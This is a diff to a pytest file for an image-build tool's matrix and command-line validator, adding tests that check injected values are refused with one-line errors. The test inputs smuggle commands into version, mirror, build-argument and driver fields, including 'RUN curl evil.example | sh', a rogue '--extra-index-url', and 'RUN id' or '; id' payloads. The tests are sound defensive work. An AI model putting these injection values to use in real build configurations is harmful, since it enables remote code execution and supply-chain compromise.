@@ -8,7 +8,7 @@ import os
 import time
 
 import pytest
-from conftest import LINE_027, ROOT, lmi
+from conftest import LINE_027, lmi
 
 from buildkit import render
 
@@ -26,7 +26,7 @@ def _refused(path, *args: str) -> str:
 
 @pytest.mark.parametrize("old,new,message", [
     ('transformers: "4.39.0"', 'transformers: "4.39.0\\"\\nRUN curl evil.example | sh\\n#"',
-     "transformers '4.39.0\"\\nRUN curl evil.example | sh\\n#' holds whitespace or a control character"),
+     "transformers '4.39.0\"\\nRUN curl evil.example | sh\\n#' holds a control character"),
     ('diffusers: "0.26.3"', 'diffusers: "0.26.3 --extra-index-url=http://evil.example"',
      "diffusers '0.26.3 --extra-index-url=http://evil.example' holds characters no version has"),
     ('accelerate: "0.27.2"', 'accelerate: "latest"', "accelerate 'latest' is not a PEP 440 version"),
@@ -55,7 +55,9 @@ def test_names_match_whole_not_up_to_a_newline(write_matrix) -> None:
     path = write_matrix(BASE.replace("  djl0.27:", '  "djl0.27\\n":'))
     assert "line names are lowercase letters" in _refused(path)
     path = write_matrix(BASE + '    tag_suffix: "a\\nb"\n')
-    assert "tag_suffix 'a\\nb' must be lowercase" in _refused(path)
+    assert "tag_suffix 'a\\nb' holds a control character" in _refused(path)
+    path = write_matrix(BASE + '    tag_suffix: "a;b"\n')
+    assert "tag_suffix 'a;b' must be lowercase" in _refused(path)
 
 
 def test_template_values_are_quoted_for_their_context() -> None:
@@ -115,10 +117,56 @@ def test_special_files_and_huge_files_are_refused(tmp_path) -> None:
     assert result.returncode == 2 and "not a regular file" in result.stderr
 
 
-def test_immutable_tags_never_match_an_alias_pattern(write_matrix) -> None:
-    path = write_matrix(BASE + "    tag_suffix: latest\n")
+def test_a_tuple_tag_can_never_read_as_a_revision(write_matrix) -> None:
+    """The bare tuple tag moves to the newest revision; a tag_suffix that made it look like an immutable
+    revision tag (<tuple>-rN) would let a registry's immutability rule pin it."""
+    path = write_matrix(BASE + "    tag_suffix: r2\n")
     result = lmi("--matrix", str(path), "validate")
-    assert result.returncode == 2 and "matches an alias pattern (*-latest, deepspeed*, djl*)" in result.stderr
-    result = lmi("--matrix", str(ROOT / "matrix.yaml"), "push", "djl0.36-g5", "--registry", "oci://127.0.0.1:9/x",
-                 "--revision", "latest")
-    assert result.returncode == 2 and "would match an alias pattern" in result.stderr
+    assert result.returncode == 2 and "matches an immutable-tag pattern" in result.stderr, result.stderr
+
+
+# --- values that reach argv, a label or a file: control characters and grammar ---------------------------
+
+
+def _one_line(stderr: str) -> str:
+    lines = stderr.strip().splitlines()
+    assert len(lines) == 1, stderr
+    return lines[0]
+
+
+@pytest.mark.parametrize("top,families,message", [
+    ('base_mirror: "x\\nRUN id"\n', "g5: {}", "base_mirror 'x\\nRUN id' holds a control character"),
+    ('base_mirror: "Mirror.example/Hub"\n', "g5: {}", "base_mirror 'Mirror.example/Hub' is not a registry prefix"),
+    ('base_mirror: "m.example/hub --network=host"\n', "g5: {}", "is not a registry prefix"),
+    ('build_args: {X: "a\\nRUN id"}\n', "g5: {}", "build_args: X value 'a\\nRUN id' holds a control character"),
+    ('build_args: {"X\\n": "a"}\n', "g5: {}", "build_args: 'X\\n' is not a build argument name"),
+    ('build_args: {"A=B": "a"}\n', "g5: {}", "build_args: 'A=B' is not a build argument name"),
+    ("", 'p5: {driver: "535.104.05\\n"}', "driver '535.104.05\\n' holds a control character"),
+    ("", 'p5: {driver: "535.104.05; id"}', "driver '535.104.05; id' is not a driver version"),
+    ("", 'g6e: {inference_ami: "al2-ami-sagemaker-inference-gpu-3-1\\n"}',
+     "inference_ami 'al2-ami-sagemaker-inference-gpu-3-1\\n' holds a control character"),
+    ('repository: "lmi-inference\\n"\n', "g5: {}", "repository 'lmi-inference\\n' holds a control character"),
+    ('repository: "lmi inference"\n', "g5: {}", "is not a valid image repository name"),
+])
+def test_matrix_values_for_argv_and_labels_are_refused_in_one_line(write_matrix, top, families, message) -> None:
+    path = write_matrix(f"schema: 1\n{top}families: {{{families}}}\nlines:" + LINE_027)
+    line = _one_line(_refused(path))
+    assert line.startswith(f"{path}:") and message in line
+
+
+@pytest.mark.parametrize("args,message", [
+    (["bake", "--build-arg", "X=a\nRUN id"], "--build-arg: X value 'a\\nRUN id' holds a control character"),
+    (["bake", "--build-arg", "X\nY=a"], "--build-arg: 'X\\nY' is not a build argument name"),
+    (["plan", "--base-mirror", "m.example\nRUN id"], "--base-mirror 'm.example\\nRUN id': holds a control character"),
+    (["ci-matrix", "--registry", "reg.example/team\n"], "--registry 'reg.example/team\\n': holds a control"),
+    (["bake", "--registry", "reg.example/Team"], "--registry 'reg.example/Team': is not a registry prefix"),
+    (["test", "--registry", "reg.example/team,x=y"], "--registry 'reg.example/team,x=y': is not a registry prefix"),
+    (["plan", "--pip-index-url", "https://x.example/simple\n"], "--pip-index-url (or $LMI_PIP_INDEX_URL) holds"),
+    (["check", "--instance", "g5", "--cuda", "12.4", "--torch", "2.4.0", "--deepspeed", "0.15.1", "--djl", "0.30.0",
+      "--python", "3.10", "--os", "ubuntu22.04", "--driver", "535.54.03\n"], "--driver '535.54.03\\n': not a driver"),
+])
+def test_options_for_argv_and_labels_are_refused_in_one_line(args, message) -> None:
+    result = lmi(*args)
+    assert result.returncode == 2, result.stdout + result.stderr
+    assert message in _one_line(result.stderr)
+
